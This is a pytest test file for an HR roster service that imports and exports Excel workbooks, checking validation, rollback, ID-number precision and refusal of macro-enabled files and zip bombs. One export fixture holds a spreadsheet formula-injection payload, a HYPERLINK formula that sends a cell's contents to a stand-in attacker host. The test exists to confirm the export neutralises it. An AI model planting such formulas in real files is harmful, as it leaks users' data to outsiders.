"""The roster workbook service: what HR's Excel files do to the roster, and what they must never
do (round ID numbers, smuggle formulas, half-import a file)."""

from __future__ import annotations

import re
from datetime import date, datetime
from io import BytesIO

import openpyxl
import pytest
import sqlalchemy as sa

from cadre_app.extensions import db
from cadre_app.models import AuditEvent, Cadre, Department, Organisation
from cadre_app.services.core import idcard
from cadre_app.services.roster import excel as roster_excel
from cadre_app.services.roster import operations as roster
from cadre_app.services.roster.excel import (
    HEADER,
    ImportRejected,
    RowStatus,
    WorkbookError,
    apply_import,
    build_workbook,
    preview_import,
    read_roster,
)
from tests import workbooks
from tests.workbooks import FIRST_ROW, build, cadre_row, cadre_rows

TODAY = date(2026, 6, 1)
ORG = "测试财政局"


@pytest.fixture
def ctx(app_ctx, org):
    """An app context over the two-section organisation of conftest (T0001, T0002)."""
    return org


#: The sections of the generated rows that the organisation lacks: HR chose to create them
#: (a section is never created without that choice; see the tests of unknown sections).
CREATE = workbooks.DEPARTMENTS


def preview(content: bytes, name: str = "名册.xlsx", create=CREATE) -> roster_excel.ImportPreview:
    return preview_import(content, name, today=TODAY, organisation_name=ORG, create_sections=create)


def apply(content: bytes, name: str = "名册.xlsx", create=CREATE) -> roster_excel.ImportSummary:
    summary = apply_import(
        content, name, actor="hr1", today=TODAY, organisation_name=ORG, create_sections=create
    )
    db.session.commit()
    return summary


def count(model) -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(model))


def one_row(**overrides) -> bytes:
    return build([cadre_row(1) | overrides])


def errors_of(content: bytes) -> list[tuple[int, str, str]]:
    """(Excel row, column, message) of every error in the preview."""
    return [(r.row, label, msg) for r in preview(content).rows for label, msg in r.errors]


# --- all-or-nothing, at scale ----------------------------------------------------------------


def test_500_rows_with_one_bad_row_write_nothing_and_name_row_and_field(ctx):
    rows = cadre_rows(500)
    bad = rows[336]
    bad["身份证号"] = bad["身份证号"][:17] + ("0" if bad["身份证号"][17] != "0" else "1")
    content = build(rows)
    before = (count(Cadre), count(Department), count(AuditEvent))

    with pytest.raises(ImportRejected) as rejected:
        apply_import(
            content,
            "名册.xlsx",
            actor="hr1",
            today=TODAY,
            organisation_name=ORG,
            create_sections=CREATE,
        )
    db.session.rollback()

    [row] = rejected.value.preview.error_rows
    assert row.row == FIRST_ROW + 336
    [(label, message)] = row.errors
    assert label == "身份证号" and "校验位" in message
    assert (count(Cadre), count(Department), count(AuditEvent)) == before


def test_the_fixed_workbook_imports_and_audits_every_row(ctx):
    content = build(cadre_rows(500))
    summary = apply(content)

    assert (summary.created, summary.updated, summary.unchanged) == (500, 0, 0)
    assert summary.new_departments == ["办公室", "政策法规处"]
    assert count(Cadre) == 502
    actions = db.session.execute(
        sa.select(AuditEvent.object_type, AuditEvent.action, sa.func.count())
        .group_by(AuditEvent.object_type, AuditEvent.action)
        .order_by(AuditEvent.object_type, AuditEvent.action)
    ).all()
    assert actions == [
        ("cadre", "create", 500),
        ("cadre", "import", 1),
        ("department", "create", 2),
    ]


def test_export_then_reimport_changes_nothing(ctx):
    apply(build(cadre_rows(60)))
    exported = build_workbook(roster_excel.cadres_for_export(None), mask_ids=False)
    result = preview(exported, "export.xlsx")
    assert result.counts == {"new": 0, "update": 0, "unchanged": 62, "error": 0}
    assert result.new_departments == [] and result.warnings == []
    versions = dict(db.session.execute(sa.select(Cadre.staff_no, Cadre.version)).all())
    summary = apply(exported, "export.xlsx")
    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 62)
    assert dict(db.session.execute(sa.select(Cadre.staff_no, Cadre.version)).all()) == versions


# --- export ---------------------------------------------------------------------------------


def test_export_is_formula_safe_and_round_trips_the_text(ctx):
    dangerous = {
        "现任职务": '=HYPERLINK("http://evil.example/?"&A2,"点击")',
        "籍贯": "+86 北京",
        "出生地": "@SUM(1+1)",
        "毕业院校系及专业": "-2+3 计算机系",
        "工号": "-0042",
        "民族": "=1+1",
    }
    apply(build([cadre_row(1) | dangerous]))
    exported = build_workbook(roster_excel.cadres_for_export(None), mask_ids=False)

    book = openpyxl.load_workbook(BytesIO(exported))  # a full load keeps formulas as formulas
    cells = [c for row in book["干部名册"].iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    rows = workbooks.read_back(exported)
    assert tuple(rows[0]) == HEADER
    row = dict(zip(HEADER, next(r for r in rows if r[0] == "-0042"), strict=True))
    for label, text in dangerous.items():
        assert row[label] == text  # no visible quote added
    assert preview(exported).counts["unchanged"] == 3


def test_dates_are_real_dates_and_id_numbers_text(ctx):
    apply(one_row())
    rows = workbooks.read_back(build_workbook(roster_excel.cadres_for_export(None), mask_ids=False))
    row = dict(zip(HEADER, next(r for r in rows if r[0] == "W00001"), strict=True))
    assert row["出生日期"] == datetime.fromisoformat(cadre_row(1)["出生日期"])
    assert row["身份证号"] == cadre_row(1)["身份证号"] and isinstance(row["身份证号"], str)


def test_masked_export_hides_the_middle_of_id_numbers(ctx):
    apply(build(cadre_rows(3)))
    rows = workbooks.read_back(build_workbook(roster_excel.cadres_for_export(None), mask_ids=True))
    numbers = {r[0]: r[HEADER.index("身份证号")] for r in rows[1:]}
    for i in range(1, 4):
        full = cadre_row(i)["身份证号"]
        assert numbers[f"W{i:05d}"] == idcard.mask(full) and full not in numbers.values()


def test_export_of_some_sections_only(ctx):
    apply(build(cadre_rows(8)))
    only = roster_excel.cadres_for_export([ctx["budget"]])
    assert only and {c.department.name for c in only} == {"预算处"}
    assert roster_excel.cadres_for_export([]) == []


def test_blank_template_has_the_header_and_instructions(ctx):
    template = roster_excel.blank_template()
    book = openpyxl.load_workbook(BytesIO(template))
    assert book.sheetnames == ["干部名册", "填写说明"]
    assert [c.value for c in book["干部名册"][1]] == list(HEADER)
    assert book["干部名册"].max_row == 1
    instructions = " ".join(str(c.value) for row in book["填写说明"].iter_rows() for c in row)
    assert "四级主任科员" in instructions and "中共预备党员" in instructions
    with pytest.raises(WorkbookError, match="没有数据"):
        read_roster(template, "模板.xlsx")


# --- refusals before parsing ----------------------------------------------------------------


def test_refuses_macro_enabled_workbooks_by_name_and_by_content(ctx):
    content = one_row()
    with pytest.raises(WorkbookError, match=r"启用宏.*xlsm"):
        read_roster(content, "名册.xlsm")
    with pytest.raises(WorkbookError, match="宏"):
        read_roster(workbooks.macro_enabled(content), "名册.xlsx")
    with pytest.raises(WorkbookError, match="宏"):
        read_roster(workbooks.rezip(content, add={"xl/vbaProject.bin": b"x"}), "名册.xlsx")


def test_refuses_files_over_5_mb(ctx):
    with pytest.raises(WorkbookError, match="5.0 MB"):
        read_roster(b"PK\x03\x04" + bytes(5 * 1024 * 1024), "大.xlsx")


def test_refuses_zip_bombs(ctx):
    content = one_row()
    with pytest.raises(WorkbookError, match="压缩条目过多"):
        read_roster(workbooks.many_entries(content), "名册.xlsx")
    bomb = workbooks.huge_expansion(content)
    assert len(bomb) < 1024 * 1024
    with pytest.raises(WorkbookError, match="解压后"):
        read_roster(bomb, "名册.xlsx")


@pytest.mark.parametrize(
    "content, message",
    [
        (b"", "空"),
        ("工号,姓名\nW1,张三\n".encode(), "不是 Excel 工作簿"),
        (b"%PDF-1.7 ...", "不是 Excel 工作簿"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "97-2003"),
        (b"PK\x03\x04 truncated", "不是 Excel 工作簿"),
    ],
)
def test_refuses_what_is_not_an_xlsx(ctx, content, message):
    with pytest.raises(WorkbookError, match=message):
        read_roster(content, "名册.xlsx")


def test_refuses_a_zip_that_is_not_a_spreadsheet(ctx):
    out = BytesIO()
    import zipfile

    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "hi")
    with pytest.raises(WorkbookError, match="不是 Excel 工作簿"):
        read_roster(out.getvalue(), "名册.xlsx")
    word = workbooks.rezip(
        one_row(),
        replace=lambda name, data: (
            data.replace(b"spreadsheetml.sheet.main", b"wordprocessingml.x")
            if name == "[Content_Types].xml"
            else data
        ),
    )
    with pytest.raises(WorkbookError, match="不是 Excel 工作簿"):
        read_roster(word, "名册.xlsx")


def test_names_the_sheets_when_the_roster_sheet_is_missing(ctx):
    content = build([cadre_row(1)], sheet="Sheet1", extra_sheets=["说明"])
    with pytest.raises(WorkbookError, match=r"没有名为“干部名册”.*Sheet1、说明"):
        read_roster(content, "名册.xlsx")


def test_refuses_a_sheet_without_a_header_row(ctx):
    content = build([cadre_row(1)], header=["编号", "名字", "性别"])
    with pytest.raises(WorkbookError, match="找不到表头"):
        read_roster(content, "名册.xlsx")


def test_refuses_missing_required_columns_and_names_them(ctx):
    header = [h for h in HEADER if h not in ("出生日期", "职级")]
    with pytest.raises(WorkbookError, match="缺少必填列：出生日期、职级"):
        read_roster(build([cadre_row(1)], header=header), "名册.xlsx")


# --- reading cells --------------------------------------------------------------------------


def test_header_below_a_title_unknown_columns_and_blank_rows(ctx):
    header = [*HEADER, "备注"]
    rows = [cadre_row(1) | {"备注": "x"}, {}, cadre_row(2)]
    content = build(rows, header=header, above=[["某某局干部名册"], []])
    result = preview(content)
    assert [r.row for r in result.rows] == [4, 6]  # title, blank, header at row 3
    assert result.warnings == ["已忽略无法识别的列：备注。"]
    assert result.counts["new"] == 2


@pytest.mark.parametrize(
    "cell, expected",
    [
        ("1990-03-08", date(1990, 3, 8)),
        ("1990.03", date(1990, 3, 1)),
        ("1990.3", date(1990, 3, 1)),
        ("1990.03.08", date(1990, 3, 8)),
        ("1990年03月", date(1990, 3, 1)),
        ("1990年3月8日", date(1990, 3, 8)),
        ("1990/03/08", date(1990, 3, 8)),
        ("１９９０．０３．０８", date(1990, 3, 8)),
        (datetime(1990, 3, 8), date(1990, 3, 8)),  # a real Excel date
        (1990.03, date(1990, 3, 1)),  # typed into a General cell: a number
    ],
)
def test_each_date_form(ctx, cell, expected):
    [row] = read_roster(one_row(任现职级时间=None, 入党时间=cell), "名册.xlsx").rows
    assert row.errors == [] and row.values["party_join_date"] == expected


@pytest.mark.parametrize(
    "cell, fragment",
    [
        ("2023-02-30", "不存在"),
        ("2023.13", "不存在"),
        ("明年", "不是可识别的日期"),
        (1990.1, "1 月还是 10 月"),
        (33000, "不是可识别的日期"),
    ],
)
def test_impossible_dates_name_the_row_and_column(ctx, cell, fragment):
    content = build([cadre_row(1), cadre_row(2) | {"参加工作时间": cell}])
    [(row, column, message)] = errors_of(content)
    assert (row, column) == (FIRST_ROW + 1, "参加工作时间") and fragment in message


def test_an_18_digit_id_number_stored_as_text_stays_exact(ctx):
    number = cadre_row(1)["身份证号"]
    [row] = read_roster(one_row(), "名册.xlsx").rows
    assert row.values["id_number"] == number
    apply(one_row())
    assert db.session.scalar(sa.select(Cadre.id_number).where(Cadre.staff_no == "W00001")) == number


def test_an_id_number_stored_as_a_float_is_refused_as_possibly_rounded(ctx):
    number = cadre_row(1)["身份证号"]
    content = one_row(身份证号=float(number))
    [(row, column, message)] = errors_of(content)
    assert (row, column) == (FIRST_ROW, "身份证号")
    assert "数字格式" in message and "舍入" in message
    assert "e+17" in message.lower() and "110105199" not in message.replace("e+17", "")


def test_an_exact_integer_id_number_is_accepted_with_a_warning(ctx):
    """Some tools write the integer's exact digits (openpyxl itself writes 1.1010519670202e+17,
    which is refused above): those digits are read raw, checked, and kept."""
    number = cadre_row(1)["身份证号"]
    assert number.isdigit()

    def exact_digits(name: str, data: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return data
        return re.sub(
            rb'(<c r="K2" t="n"><v>)[^<]+(</v>)', rb"\g<1>" + number.encode() + rb"\2", data
        )

    content = workbooks.rezip(one_row(身份证号=float(number)), replace=exact_digits)
    result = preview(content)
    assert result.counts["new"] == 1
    assert result.rows[0].values["id_number"] == number
    assert any("数字格式" in w for w in result.warnings)


def test_full_width_characters_and_spaces_are_normalised(ctx):
    number = cadre_row(1)["身份证号"]
    wide = number.translate({ord("0") + i: ord("０") + i for i in range(10)})
    content = one_row(
        工号="Ｗ００００１",
        姓名="\u3000李　芳伟 ",
        身份证号=f" {wide}\u3000",
        手机号="１３８ ００００ ０００１",
        部门="\u3000预算处\u200b",
        政治面貌=" 中共党员 ",
    )
    [row] = read_roster(content, "名册.xlsx").rows
    assert row.errors == []
    values = row.values
    assert values["staff_no"] == "W00001" and values["name"] == "李芳伟"
    assert values["id_number"] == number and values["phone"] == "13800000001"
    assert values["department_name"] == "预算处" and values["political_status"] == "中共党员"
    assert preview(content).new_departments == []


def test_masked_id_numbers_cannot_be_imported(ctx):
    [(_row, column, message)] = errors_of(one_row(身份证号=idcard.mask(cadre_row(1)["身份证号"])))
    assert column == "身份证号" and "脱敏" in message


# --- departments, updates, uniqueness -------------------------------------------------------


def test_an_unknown_section_is_an_error_with_the_nearest_name_unless_chosen(ctx):
    """Issue 10 item 13: a misspelt 部门 (预算科 for 预算处) no longer creates a section."""
    content = build([cadre_row(1, department="预算科"), cadre_row(2, department="预算处")])
    result = preview(content, create=())
    assert result.new_departments == [] and result.has_errors
    [unknown] = result.unknown_sections
    assert (unknown.name, unknown.rows, unknown.suggestion, unknown.create) == (
        "预算科",
        [FIRST_ROW],
        "预算处",
        False,
    )
    [(column, message)] = result.rows[0].errors
    assert column == "部门" and "预算科" in message and "最相近的是“预算处”" in message
    assert result.rows[1].status is RowStatus.NEW  # the other row is fine
    with pytest.raises(ImportRejected):  # all-or-nothing: nothing created, nobody imported
        apply(content, create=())
    db.session.rollback()
    assert count(Department) == 2 and count(Cadre) == 2
    # a choice for another name changes nothing
    assert preview(content, create={"数字财政科"}).has_errors


def test_an_unknown_section_is_created_only_when_chosen(ctx):
    content = build([cadre_row(1, department="数字财政科"), cadre_row(2, department="预算处")])
    result = preview(content, create={"数字财政科"})
    assert result.new_departments == ["数字财政科"] and not result.has_errors
    assert result.unknown_sections[0].create and result.unknown_sections[0].suggestion is None
    assert count(Department) == 2  # the preview wrote nothing
    summary = apply(content, create={"数字财政科"})
    assert summary.new_departments == ["数字财政科"]
    department = db.session.scalar(sa.select(Department).where(Department.name == "数字财政科"))
    assert department.organisation.name == ORG
    cadre = db.session.scalar(sa.select(Cadre).where(Cadre.staff_no == "W00001"))
    assert cadre.department_id == department.id


def test_without_an_organisation_one_is_created_from_the_configured_name(app_ctx):
    summary = apply_import(
        one_row(),
        "名册.xlsx",
        actor="hr1",
        today=TODAY,
        organisation_name="某市财政局",
        create_sections={"国库处"},
    )
    db.session.commit()
    assert summary.created == 1
    assert db.session.scalars(sa.select(Organisation.name)).all() == ["某市财政局"]


def test_update_by_staff_number_reports_the_changed_fields(ctx):
    existing = db.session.get(Cadre, ctx["own_cadre"])  # T0001 李晓明, 预算处, 一级科员
    row = {
        "工号": "T0001",
        "姓名": "李晓明",
        "性别": "男",
        "出生日期": "1995-03-08",
        "部门": "国库处",
        "职级": "四级主任科员",
        "手机号": "13912345678",
    }
    header = ["工号", "姓名", "性别", "出生日期", "部门", "职级", "手机号"]
    result = preview(build([row], header=header))
    [r] = result.rows
    assert r.status is RowStatus.UPDATE
    assert {(c.label, c.old, c.new) for c in r.changes} == {
        ("部门", "预算处", "国库处"),
        ("职级", "一级科员", "四级主任科员"),
        ("手机号", "", "13912345678"),
    }
    version = existing.version
    summary = apply(build([row], header=header))
    assert (summary.created, summary.updated) == (0, 1)
    db.session.refresh(existing)
    assert existing.rank == "四级主任科员" and existing.department_id == ctx["treasury"]
    assert existing.version == version + 1 and existing.updated_by == "hr1"
    event = db.session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "update"))
    assert event.object_id == str(existing.id) and event.before["rank"] == "一级科员"


def test_an_update_that_breaks_a_rule_is_an_error(ctx):
    header = ["工号", "姓名", "性别", "出生日期", "部门", "职级", "参加工作时间"]
    row = {"工号": "T0001", "姓名": "李晓明", "性别": "男", "出生日期": "1995-03-08"}
    row |= {"部门": "预算处", "职级": "一级科员", "参加工作时间": "1994-01"}
    [(_row, column, message)] = errors_of(build([row], header=header))
    assert column == "参加工作时间" and "晚于出生日期" in message


def test_duplicate_staff_number_inside_the_file_names_both_rows(ctx):
    rows = [cadre_row(1), cadre_row(2), cadre_row(3) | {"工号": "W00001"}]
    errors = errors_of(build(rows))
    assert [(r, c) for r, c, _m in errors] == [(2, "工号"), (4, "工号")]
    assert all("第 2、4 行" in m for _r, _c, m in errors)


def test_duplicate_id_number_inside_the_file_is_named_masked(ctx):
    rows = [cadre_row(1), cadre_row(2) | {"身份证号": cadre_row(1)["身份证号"], "性别": "男"}]
    rows[1]["出生日期"] = rows[0]["出生日期"]
    errors = errors_of(build(rows))
    assert {(r, c) for r, c, _m in errors} == {(2, "身份证号"), (3, "身份证号")}
    assert all(cadre_row(1)["身份证号"] not in m for _r, _c, m in errors)


def test_id_number_already_used_by_another_cadre_in_the_database(ctx):
    other = db.session.get(Cadre, ctx["other_cadre"])  # 王芳, T0002
    number = cadre_row(1)["身份证号"]
    other.id_number = number
    db.session.commit()
    [(row, column, message)] = errors_of(one_row())
    assert (row, column) == (FIRST_ROW, "身份证号")
    assert message == "身份证号已被 王芳（工号 T0002）使用。"


def test_rules_of_the_record_are_checked_per_row(ctx):
    content = build(
        [
            cadre_row(1) | {"性别": "未知"},
            cadre_row(2) | {"职级": "科长"},
            cadre_row(3) | {"手机号": "12345"},
            cadre_row(4) | {"姓名": None},
        ]
    )
    found = {(r, c) for r, c, _m in errors_of(content)}
    assert {(2, "性别"), (3, "职级"), (4, "手机号"), (5, "姓名")} <= found


def test_stored_values_that_only_differ_in_width_or_spaces_stay_unchanged(ctx):
    cadre = db.session.get(Cadre, ctx["own_cadre"])
    cadre.position_title = "科员（试用）\t"
    db.session.commit()
    [row] = workbooks.read_back(build_workbook([cadre], mask_ids=False))[1:]
    assert row[HEADER.index("现任职务")] == "科员（试用）\t"
    result = preview(build_workbook([cadre], mask_ids=False))
    assert result.rows[0].status is RowStatus.UNCHANGED


def test_preview_uses_few_queries_for_many_rows(ctx):
    from sqlalchemy import event

    apply(build(cadre_rows(200)))
    statements = []

    def count_statement(*_args):
        statements.append(1)

    event.listen(db.engine, "before_cursor_execute", count_statement)
    try:
        result = preview(build(cadre_rows(200) + cadre_rows(100, start=201)))
    finally:
        event.remove(db.engine, "before_cursor_execute", count_statement)
    assert result.counts == {"new": 100, "update": 0, "unchanged": 200, "error": 0}
    assert len(statements) <= 6


def test_validate_is_the_roster_rule_set(ctx):
    """The workbook adds no rules of its own beyond reading cells: roster.validate decides."""
    values = read_roster(one_row(), "名册.xlsx").rows[0].values
    assert roster.validate(values | {"department_id": ctx["budget"]}, today=TODAY) == []


def test_a_header_written_as_处室_is_read_as_the_section_column(ctx):
    """Issue 10 item 17: the UI says 处室; a workbook headed 处室 instead of 部门 imports."""
    header = [("处室" if label == "部门" else label) for label in HEADER]
    row = cadre_row(1, department="国库处")
    row["处室"] = row.pop("部门")
    result = preview(build([row], header=header))
    assert not result.warnings and result.counts["new"] == 1
    assert result.rows[0].values["department_id"] == ctx["treasury"]
